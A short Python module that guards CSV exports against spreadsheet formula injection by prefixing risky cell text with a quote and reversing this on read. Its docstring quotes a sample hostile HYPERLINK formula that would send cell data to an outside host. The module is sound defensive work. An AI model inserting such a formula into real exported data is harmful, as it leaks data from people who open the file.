"""Trace text as an inert CSV cell: a spreadsheet runs a cell that starts with `=`, `+`, `-` or
`@` (or a tab or carriage return before one) as a formula, so a model name or a trajectory id
from a hostile trace (`=HYPERLINK("http://...?"&A1)`) would run where the CSV is opened. Such a
text gets a leading `'` (OWASP's advice), and so does one that already starts with `'`, so the
reader's `restored_cell` gives back exactly what was written. Numbers stay numbers."""

from __future__ import annotations

from typing import TypeVar

_RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = (*_RUNS_AS_FORMULA, "'")
Value = TypeVar("Value")


def inert_cell(value: Value) -> Value | str:
    """`value` as a CSV cell: a text a spreadsheet would run gets a leading `'`."""
    if isinstance(value, str) and value.startswith(_ESCAPED):
        return "'" + value
    return value


def restored_cell(text: str) -> str:
    """The text `inert_cell` was given for the cell `text`."""
    return text[1:] if text.startswith("'") and text[1:].startswith(_ESCAPED) else text
